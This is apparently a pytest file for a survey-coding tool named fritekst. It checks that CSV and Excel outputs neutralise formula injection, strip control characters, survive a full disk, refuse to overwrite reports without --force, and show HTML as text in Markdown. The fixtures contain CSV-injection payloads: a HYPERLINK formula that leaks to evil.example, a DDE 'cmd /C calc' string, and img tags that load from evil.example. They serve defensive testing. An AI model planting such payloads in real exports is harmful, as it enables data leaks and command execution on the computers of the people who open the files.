"""Everything a spreadsheet, a report file or a disk can do wrong (house rule 14): answers that
look like formulas stay text in every CSV and workbook fritekst writes, control characters
do not stop a report, a report or run cut off by a full disk leaves the earlier file as it was,
an existing report is not replaced unasked, and HTML or images in answers show as text in the
Markdown report.

Built on two real runs of the example survey with planted cells: one with formulas, HTML and
a quoted header (``hostile``), one exported as CSV with a BEL in the last row's role (``bel``).
"""

from __future__ import annotations

import contextlib
import csv
import re
import resource
import signal
from pathlib import Path

import pytest
import yaml
from docx import Document
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from typer.testing import CliRunner

from fritekst.cli import app
from fritekst.coding import load_coded
from fritekst.errors import InputError
from fritekst.codebook import load_codebook
from fritekst.quotes import cached_embed
from fritekst.report import build_report, write_report
from fritekst.results import attribute_columns, load_run
from fritekst.run_table import write_run
from fritekst.store import open_store

pytestmark = pytest.mark.slow  # runs the example survey and writes every report format

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "kommuneundersokelsen_fiktiv.xlsx"
MAPPING = ROOT / "examples" / "demo.yaml"
CODEBOOK = ROOT / "codebooks" / "imdi_kommuneundersokelsen.yaml"
QUESTION = "q17_barrierer"

HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
ROLE = "=1+1"
QUOTED_HEADER = "'Størrelse: innbyggere'"  # as a CSV export with ' as its quote character leaves it
HTML = " <img src=http://evil.example/a.png> ![kart](http://evil.example/kart.png)"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def invoke(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


def _text(cell, value: str) -> None:
    """A text cell, as a web survey exports what a respondent typed (not a formula)."""
    cell.value = value
    cell.data_type = "s"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The example survey with formulas in the second answer, in every other 2025 answer, in the
    role of the last three 2025 respondents and in one size band; HTML in the other 2025 answers;
    a quoted header. Run with --codebook into a run directory and a SQLite store."""
    folder = tmp_path_factory.mktemp("hostile")
    book = load_workbook(EXAMPLE)
    sheet = book["Svar"]
    column = {cell.value: cell.column for cell in sheet[1]}
    q17, role, size = column[QUESTION], column["rolle"], column["storrelse"]
    _text(sheet.cell(4, q17), HYPERLINK)  # the second respondent (row 3 is the first)
    answered = [r for r in range(3, sheet.max_row + 1)  # long enough not to be a non-answer
                if sheet.cell(r, column["undersokelse_ar"]).value == 2025 and len(sheet.cell(r, q17).value or "") > 40]
    for n, row in enumerate(answered):
        answer = sheet.cell(row, q17).value
        _text(sheet.cell(row, q17), "=+-@"[n // 2 % 4] + answer if n % 2 else answer + HTML)
    for row in answered[-3:]:
        _text(sheet.cell(row, role), ROLE)
    _text(sheet.cell(answered[-5], size), DDE)
    _text(sheet.cell(1, size), QUOTED_HEADER)
    survey = folder / "svar.xlsx"
    book.save(survey)
    mapping = yaml.safe_load(MAPPING.read_text(encoding="utf-8"))
    mapping["attrs"] = [QUOTED_HEADER if a == "storrelse" else a for a in mapping["attrs"]]
    config = folder / "mapping.yaml"
    config.write_text(yaml.safe_dump(mapping, allow_unicode=True), encoding="utf-8")
    run_dir, db = folder / "run", folder / "fritekst.db"
    result = invoke("run", survey, "--config", config, "--embedder", "tfidf", "--no-cache", "--codebook", CODEBOOK,
                    "--out", run_dir, "--db", db)
    assert result.exit_code == 0, result.output
    ids = [str(sheet.cell(r, column["respondent_id"]).value) for r in (4, *answered[-3:], answered[-5])]
    return {"run": run_dir, "db": db, "second": ids[0], "role_ids": ids[1:4], "dde_id": ids[4]}


@pytest.fixture(scope="module")
def bel(tmp_path_factory):
    """The example survey as a UTF-8 CSV (as some exports write it) with a BEL in the role and the
    municipality of the last row, run with --codebook."""
    folder = tmp_path_factory.mktemp("bel")
    rows = [["" if v is None else str(v) for v in row] for row in load_workbook(EXAMPLE)["Svar"].iter_rows(values_only=True)]
    column = {name: i for i, name in enumerate(rows[0])}
    assert rows[-1][column["rolle"]] == "Kommunedirektør" and rows[-1][column["kommune"]] == "Bodø"
    rows[-1][column["rolle"]] = "Kommunedirektør\x07"
    rows[-1][column["kommune"]] = "Bo\x07dø"
    survey = folder / "svar.csv"
    with survey.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    run_dir = folder / "run"
    result = invoke("run", survey, "--config", MAPPING, "--embedder", "tfidf", "--no-cache", "--codebook", CODEBOOK,
                    "--out", run_dir)
    assert result.exit_code == 0, result.output
    return {"run": run_dir, "last_id": rows[-1][column["respondent_id"]]}


def report(source, out: Path, *extra):
    result = invoke("report", source, "--question", QUESTION, "--out", out, *extra)
    assert result.exit_code == 0, result.output
    return out


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def formula_like(value: str) -> bool:
    """What a spreadsheet could take for a formula: starts with = + - @ tab CR and is not a plain
    number or a lone dash (which Excel reads as a number or as text)."""
    return value.startswith(TRIGGERS) and not re.fullmatch(r"[-+]?(\d+([.,]\d+)*)?", value)


# --- 1. formulas ---------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+47 912 34 567", "'+47 912 34 567"),
    ("-ingen boliger", "'-ingen boliger"),
    (DDE, "'" + DDE),
    ("\tinnrykk", "'\tinnrykk"),
    ("\rlinje", "'\rlinje"),
    ("'=1+1", "''=1+1"),  # so that reading back gives what was written
    ("'sitat'", "'sitat'"),
    ("Bolig er mangelvare", "Bolig er mangelvare"),
    ("-", "-"),
    ("-12", "-12"),
    ("-1,5", "-1,5"),
    ("", ""),
    (-3, -3),
    (-0.25, -0.25),
    (None, None),
])
def test_the_neutraliser_follows_owasp_and_reads_back(value, written):
    from fritekst.spreadsheet import neutral, restore

    assert neutral(value) == written
    assert restore(neutral(value)) == value


def test_a_table_is_neutralised_cell_by_cell_and_headers_too():
    import pandas as pd

    from fritekst.spreadsheet import neutral_table, restored_table

    table = pd.DataFrame({"id": ["1", "=2"], "=kolonne": ["a", "+b"], "theme_id": [-1, 3], "confidence": [-0.5, 0.9]})
    written = neutral_table(table)
    assert list(written.columns) == ["id", "'=kolonne", "theme_id", "confidence"]
    assert written["id"].tolist() == ["1", "'=2"] and written["'=kolonne"].tolist() == ["a", "'+b"]
    assert written["theme_id"].tolist() == [-1, 3] and written["confidence"].tolist() == [-0.5, 0.9]  # numbers stay numbers
    assert restored_table(written.astype(str)).equals(table.astype(str))


def test_assignments_csv_keeps_no_formula_from_run_or_export(hostile, tmp_path):
    exported = tmp_path / "eksport"
    result = invoke("export", "--db", hostile["db"], "--out", exported)
    assert result.exit_code == 0, result.output
    for folder in (hostile["run"], exported):
        rows = csv_rows(folder / "assignments.csv")
        second = next(r for r in rows if r["id"] == hostile["second"] and r["question"] == QUESTION)
        assert second["text"] == "'" + HYPERLINK
        assert {r["role"] for r in rows if r["id"] in hostile["role_ids"]} == {"'" + ROLE}
        assert {r[QUOTED_HEADER] for r in rows if r["id"] == hostile["dde_id"]} == {"'" + DDE}
        for name in ("assignments.csv", "themes.csv"):
            with (folder / name).open(encoding="utf-8", newline="") as file:
                cells = [cell for row in csv.reader(file) for cell in row]
            assert [c for c in cells if formula_like(c)] == [], (folder, name)


def test_a_coders_theme_label_is_neutral_in_themes_csv_and_reads_back(hostile, tmp_path):
    db = tmp_path / "fritekst.db"
    db.write_bytes(hostile["db"].read_bytes())
    with open_store(db) as store:
        store.rename_theme(1, QUESTION, 1, HYPERLINK, actor="kari")
    exported = tmp_path / "eksport"
    assert invoke("export", "--db", db, "--out", exported).exit_code == 0
    labels = {(r["question"], r["theme_id"]): r["label"] for r in csv_rows(exported / "themes.csv")}
    assert labels[(QUESTION, "1")] == "'" + HYPERLINK
    themes = load_run(exported).themes
    assert themes.loc[(themes["question"] == QUESTION) & (themes["theme_id"] == 1), "label"].item() == HYPERLINK


def test_reading_a_run_back_gives_the_answers_as_written(hostile):
    for source in (hostile["run"], hostile["db"]):
        segments = load_run(source).assignments
        second = segments[(segments["id"] == hostile["second"]) & (segments["question"] == QUESTION)]
        assert second["text"].item() == HYPERLINK
        assert set(segments.loc[segments["id"].isin(hostile["role_ids"]), "role"]) == {ROLE}
        assert set(segments.loc[segments["id"] == hostile["dde_id"], QUOTED_HEADER]) == {DDE}


def test_coded_ids_that_excel_kept_neutral_are_read_back(tmp_path):
    coded = tmp_path / "kodet.csv"
    coded.write_text("id,code_id\n'=7,bolig\n8,tolk\n", encoding="utf-8")
    table = load_coded(coded, load_codebook(CODEBOOK))
    assert table["id"].tolist() == ["=7", "8"]


def excel_accepts(title: str) -> bool:
    """Excel's rules for a sheet name (it repairs the file otherwise)."""
    return (0 < len(title) <= 31 and not any(c in title for c in "[]:*?/\\") and not title.startswith("'")
            and not title.endswith("'") and title.lower() != "history" and title.isprintable())


def test_the_excel_report_holds_formulas_as_text(hostile, tmp_path):
    book = load_workbook(report(hostile["run"], tmp_path / "rapport.xlsx"))
    assert all(excel_accepts(title) for title in book.sheetnames), book.sheetnames
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile_cells = [c for c in cells if isinstance(c.value, str) and formula_like(c.value)]
    texts = {c.value for c in hostile_cells}
    assert any(t.startswith(f"{ROLE} (N = 3)") for t in texts), texts  # the table by role's heading
    assert any(t.startswith(f"{DDE} (N = 1)") for t in texts), texts  # the table by size band's heading
    quotes = [c.value for c in book["Sitater"]["C"][1:]]
    assert any(q.startswith(("=", "+", "-", "@")) for q in quotes), quotes  # as written, no quote added
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)  # Excel keeps them text when edited


# --- 2. control characters -----------------------------------------------------------------


def test_a_bel_in_the_last_rows_role_does_not_stop_the_reports(bel, tmp_path):
    segments = load_run(bel["run"]).assignments
    last = segments[segments["id"] == bel["last_id"]]
    assert set(last["role"]) == {"Kommunedirektør"} and set(last["kommune"]) == {"Bodø"}
    workbook = load_workbook(report(bel["run"], tmp_path / "rapport.xlsx"))
    sheet_text = " ".join(str(c.value) for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None)
    document = Document(report(bel["run"], tmp_path / "rapport.docx"))
    doc_text = "\n".join([p.text for p in document.paragraphs]
                         + [c.text for t in document.tables for r in t.rows for c in r.cells])
    for text in (sheet_text, doc_text):
        assert "\x07" not in text
        assert "Kommunedirektør (N = " in text  # one group, æøå intact
        assert "kommunedirektører" in text and "integreringsansvarlige" in text


def test_a_report_of_an_older_run_with_control_characters_is_written(hostile, tmp_path):
    """A run directory or store written before the survey reader dropped them still holds them."""
    run = load_run(hostile["run"])
    segments = run.assignments.copy()
    rows = segments.index[(segments["question"] == QUESTION) & (segments["wave"] == "2025")]
    segments.loc[rows[-1], "role"] = "Kommunedirektør\x07"
    segments.loc[rows, "text"] = segments.loc[rows, "text"] + "\x1b[0m"
    built = build_report(segments, cached_embed("tfidf"), codebook=run.codebook, questions=[QUESTION],
                         attributes=attribute_columns(run))
    for suffix in (".docx", ".xlsx", ".md"):
        path = write_report(built, tmp_path / f"rapport{suffix}")
        assert path.stat().st_size > 0
    assert "\x1b" not in (tmp_path / "rapport.md").read_text(encoding="utf-8")


# --- 3. written whole ----------------------------------------------------------------------


@contextlib.contextmanager
def disk_full_after(size: int):
    """Writes past ``size`` bytes of any file fail with EFBIG, as a full disk fails them with ENOSPC."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    ignored = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, ignored)


@pytest.mark.parametrize("suffix", [".docx", ".xlsx", ".md"])
def test_a_report_cut_off_by_a_full_disk_leaves_the_earlier_file_intact(hostile, tmp_path, suffix):
    out = report(hostile["run"], tmp_path / f"rapport{suffix}")
    before = out.read_bytes()
    assert len(before) > 2048
    with disk_full_after(2048):
        replaced = invoke("report", hostile["run"], "--question", QUESTION, "--out", out, "--force")
        new = invoke("report", hostile["run"], "--question", QUESTION, "--out", tmp_path / f"ny{suffix}")
    for result in (replaced, new):
        assert result.exit_code == 2 and "File too large" in result.stderr and result.stderr.count("\n") == 1, result.output
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]  # no partial file, no temporary file


def test_a_run_cut_off_by_a_full_disk_keeps_the_earlier_run(hostile, tmp_path):
    """`fritekst run` and `fritekst export` both write through write_run."""
    result = load_run(hostile["run"])
    out = write_run(result, tmp_path / "ut")
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    with disk_full_after(4096), pytest.raises(InputError, match="File too large.*unchanged"):
        write_run(result, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert [p.name for p in tmp_path.iterdir()] == ["ut"]  # no staging or old copy left


# --- 4. replacing unasked, HTML in Markdown --------------------------------------------------


def test_report_refuses_to_replace_a_file_without_force(hostile, tmp_path):
    out = tmp_path / "rapport.md"
    out.write_text("Mine notater\n", encoding="utf-8")
    refused = invoke("report", hostile["run"], "--question", QUESTION, "--out", out)
    assert refused.exit_code == 2 and "--force" in refused.stderr and refused.stderr.count("\n") == 1, refused.output
    assert out.read_text(encoding="utf-8") == "Mine notater\n"
    report(hostile["run"], out, "--force")
    assert QUESTION in out.read_text(encoding="utf-8")


def test_html_and_images_in_answers_show_as_text_in_the_markdown_report(hostile, tmp_path):
    markdown = report(hostile["run"], tmp_path / "rapport.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").render(markdown)
    assert "evil.example/a.png" in html and "evil.example/kart.png" in html  # the words remain ...
    assert "<img" not in html and "<a " not in html  # ... as text: no image loaded, no link
    assert "&lt;img src=http://evil.example/a.png&gt;" in html
    assert "![kart](http://evil.example/kart.png)" in html
